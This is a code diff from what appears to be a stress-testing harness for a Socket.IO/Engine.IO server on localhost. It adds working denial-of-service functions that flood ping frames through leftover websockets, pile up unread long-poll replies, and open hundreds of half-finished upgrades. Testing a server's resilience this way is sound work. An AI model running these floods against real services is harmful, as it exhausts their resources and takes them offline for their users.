@@ -159,6 +159,53 @@ def post(path: bytes, body: bytes) -> bytes:
     return POST % (path, b"Content-Length: %d" % len(body)) + body
 
 
+def ended_sessions(port: int, until: float) -> None:
+    """End sessions, have the server look each of them up, and send pings through the websockets that are left."""
+    pings = frame(b"", 0x89) * 1000
+    sent: dict[socket.socket, int] = {}  # bytes of pings, by websocket
+    while time.monotonic() < until:
+        try:
+            client = socket.create_connection(("127.0.0.1", port), 2)
+            client.sendall(WEBSOCKET % b"")
+            got = b""
+            while b"}" not in got:
+                if not (more := client.recv(65536)):
+                    raise ConnectionError
+                got += more
+            client.sendall(frame(b"1"))
+            client.setblocking(False)
+            sent[client] = 0
+            with socket.create_connection(("127.0.0.1", port), 2) as other:
+                other.sendall(GET % (POLLING + b"&sid=" + got.split(b'"sid":"')[1][:32]))
+                other.recv(65536)
+        except (OSError, IndexError):  # refused
+            time.sleep(0.01)
+        for each in list(sent):
+            try:
+                sent[each] += _unless_blocked(each.send, pings[sent[each] % len(frame(b"", 0x89)) :]) or 0
+                _unless_blocked(each.recv, 1 << 20)
+            except OSError:
+                del sent[each]
+
+
+def unread_polls(port: int, until: float) -> None:
+    """Have long pings answered over HTTP polling, and read none of the answers."""
+    ping, unread = b"100001:2" + b"x" * 100_000, []
+    while time.monotonic() < until:
+        try:
+            path = POLLING + b"&sid=" + session_id(port)
+            with socket.create_connection(("127.0.0.1", port), 2) as client:
+                while time.monotonic() < until:
+                    for _ in range(60):
+                        client.sendall(post(path, ping))
+                        if b" 200 " not in client.recv(65536):
+                            raise ConnectionError
+                    unread.append(socket.create_connection(("127.0.0.1", port), 2))
+                    unread[-1].sendall(GET % path)
+        except OSError:  # refused
+            time.sleep(0.01)
+
+
 def one_frame_of(jpeg: bytes) -> bytes:
     """Return a telemetry's websocket frames."""
     return b"".join(fragments("42" + json.dumps(["telemetry", telemetry(jpeg, speed="9.0000")])))
@@ -184,6 +231,7 @@ def all_attacks() -> dict[str, Attack]:
         "connect_again": websockets(frame(b"40") * 1000),
         "namespaces": websockets(names, read=True),
         "upgrade_packets": websockets(frame(b"5") * 1000),
+        "unread_polls": unread_polls,
         "websocket_pings": websockets(frame(b"x" * 125, 0x89) * 1000),
         "websocket_pings_read": websockets(frame(b"", 0x89) * 1000, connections=8, read=True),
         # Messages that cost more than they should
@@ -197,6 +245,10 @@ def all_attacks() -> dict[str, Attack]:
         "polling_sessions": requests(GET % POLLING, connections=50, read=True),
         "unfetched_answers": in_sessions(
             lambda sid: post(POLLING + sid, b'24:42["telemetry",{"a":"b"}]' * 16), connections=8
+        ),
+        "ended_sessions": ended_sessions,
+        "half_upgrades": in_sessions(
+            lambda sid: (WEBSOCKET % sid).replace(b"Connection: Upgrade\r\n", b""), connections=250
         ),
         "upgrade_probes": in_sessions(lambda sid: WEBSOCKET % sid + frame(b"2probe"), connections=100),
         "payload_lengths": in_sessions(lambda sid: post(POLLING + sid, b"\0" + b"\1" * 250_000), connections=8),
